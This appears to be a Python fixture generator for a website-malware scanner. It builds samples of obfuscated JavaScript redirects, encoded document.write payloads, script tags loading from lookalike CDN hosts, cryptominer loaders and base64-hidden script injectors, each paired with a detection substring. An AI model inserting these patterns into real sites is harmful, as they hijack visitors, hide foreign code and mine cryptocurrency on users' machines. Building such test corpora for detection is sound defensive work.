"""Malicious scripts as attackers write them: redirects (plain and simply obfuscated), encoded payloads, miners."""

from __future__ import annotations

import base64
import random
from urllib.parse import quote

REDIRECT_JS = (
    "js_location",
    "js_location_href",
    "js_location_replace",
    "js_atob",
    "js_fromcharcode",
    "js_unescape_eval",
    "js_hex_escape",
    "js_split_reverse",
)
BAD_SCRIPT_HOSTS = (
    "cdn-jquery.top",
    "static-analytics.xyz",
    "google-tagmanager.site",
    "jscdn-lib.online",
    "counter-stat.club",
    "fbcdn-sdk.live",
)
MINER_HOSTS = ("coinhive.com", "authedmine.com", "crypto-loot.org", "webminepool.com", "coinimp.com")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def _percent_all(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode("utf-8"))


def _hex_escape(text: str) -> str:
    return "".join(f"\\x{ord(ch):02x}" for ch in text)


def _redirect_code(rng: random.Random, method: str, url: str) -> tuple[str, str]:
    """JavaScript statement(s) that navigate to `url`, and the substring that proves it is there."""
    target = rng.choice(("window.location", "top.location", "document.location", "self.location"))
    if method == "js_atob":
        if rng.random() < 0.5:
            blob = _b64(url)
            return f'{target}.href=atob("{blob}");', blob
        blob = _b64(f'window.location.href="{url}";')
        return f'eval(atob("{blob}"));', blob
    if method == "js_hex_escape":
        name = f"_0x{rng.randint(0x1000, 0xFFFF):x}"
        blob = _hex_escape(url)
        return f'var {name}=["{blob}","\\x68\\x72\\x65\\x66"];{target}[{name}[1]]={name}[0];', blob
    codes = ",".join(str(ord(ch)) for ch in url)
    escaped = _percent_all(f'window.location.replace("{url}")')
    table = {
        "js_location": (f'{target} = "{url}";', url),
        "js_location_href": (f"location.href='{url}';", url),
        "js_location_replace": (f'window.location.replace("{url}");', url),
        "js_fromcharcode": (f"var _u=String.fromCharCode({codes});{target}.href=_u;", codes),
        "js_unescape_eval": (f'eval(unescape("{escaped}"));', escaped),
        "js_split_reverse": (f'location.href="{url[::-1]}".split("").reverse().join("");', url[::-1]),
    }
    return table[method]


def redirect_script(rng: random.Random, method: str, url: str) -> tuple[str, str]:
    """A <script> that sends the visitor to `url`, and the substring that proves it is there."""
    code, evidence = _redirect_code(rng, method, url)
    if rng.random() < 0.3:
        code = f"setTimeout(function(){{{code}}},{rng.choice((0, 500, 1500))});"
    if rng.random() < 0.3:
        code = f"if(/google|bing|coccoc/i.test(document.referrer)){{{code}}}"
    return f'<script type="text/javascript">{code}</script>', evidence


def docwrite_script(rng: random.Random, method: str, payload_html: str) -> tuple[str, str]:
    """document.write of an encoded payload; returns (script, evidence)."""
    if method == "document_write_atob":
        blob = _b64(payload_html)
        return f'<script>document.write(atob("{blob}"));</script>', blob[:48]
    blob = quote(payload_html, safe="")
    if rng.random() < 0.5:
        blob = _percent_all(payload_html)
    return f'<script language="javascript">document.write(unescape("{blob}"));</script>', blob[:48]


def bad_script_tag(rng: random.Random) -> tuple[str, str]:
    host = rng.choice(BAD_SCRIPT_HOSTS)
    path = rng.choice(("jquery.min.js", "ga.js?v=3", "sdk/all.js", "stat.js", "lib/core.min.js"))
    url = f"{rng.choice(('https:', ''))}//{host}/{path}"
    attrs = rng.choice(("", " async", ' type="text/javascript"', " defer"))
    return f'<script{attrs} src="{url}"></script>', host


def miner_script(rng: random.Random) -> tuple[str, str]:
    host = rng.choice(MINER_HOSTS)
    key = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(32))
    if host == "coinimp.com":
        start = f"var _client = new Client.Anonymous('{key}', {{throttle: 0, c: 'w'}}); _client.start();"
        src = f"https://www.hostingcloud.racing/{key[:4]}.js"
        return f'<script src="{src}"></script><script>{start}</script>', key
    start = f"var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.2}}); miner.start();"
    return f'<script src="https://{host}/lib/coinhive.min.js"></script><script>{start}</script>', key


def injector_js(rng: random.Random, src_url: str) -> tuple[str, str]:
    """Code appended to a site's own JS file that loads a foreign script (sometimes base64-hidden)."""
    if rng.random() < 0.5:
        code = (
            "\n;(function(){var s=document.createElement('script');s.type='text/javascript';s.async=true;"
            f"s.src='{src_url}';var x=document.getElementsByTagName('script')[0];x.parentNode.insertBefore(s,x);"
            f"}})();\n"
        )
        return code, src_url
    blob = _b64(f"var s=document.createElement('script');s.src='{src_url}';document.head.appendChild(s);")
    return f'\n;eval(atob("{blob}"));\n', blob
